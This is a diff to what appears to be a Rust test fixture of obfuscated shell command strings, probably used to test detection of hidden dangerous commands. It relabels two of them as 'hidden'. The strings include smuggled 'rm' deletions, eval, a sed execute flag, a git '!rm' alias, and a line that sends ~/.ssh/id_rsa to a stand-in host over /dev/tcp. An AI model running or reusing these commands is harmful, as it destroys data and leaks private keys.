@@ -32,11 +32,11 @@ const LINES: &[(&str, &str)] = &[
         "echo \"x $( case $x in *) echo $(rm -rf y);; esac ) y\" ; eval \"$cmd\"",
     ),
     (
-        "issue 33",
+        "hidden",
         "test -v 'a[$(rm x)]' && printf -v 'b[$(id)]' x; [[ $((n+1)) -eq 2 ]] && cat ~/.ssh/id_rsa 3</dev/tcp/h/1 >&3",
     ),
     (
-        "issue 33",
+        "hidden",
         "sed -i -e 's/a/b/w /out' -e '1e rm x' a.txt; git -c alias.x='!rm y' x | bash <<< 'rm z'; sort --o=/tmp/x data",
     ),
 ];
